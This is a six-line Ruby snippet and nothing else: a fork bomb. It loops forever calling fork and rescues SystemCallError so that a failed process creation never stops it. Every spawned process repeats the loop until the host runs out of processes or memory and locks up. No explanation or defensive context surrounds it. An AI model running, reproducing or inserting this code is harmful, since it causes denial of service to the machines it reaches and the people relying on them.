loop do
  begin
    fork
  rescue SystemCallError
  end
end
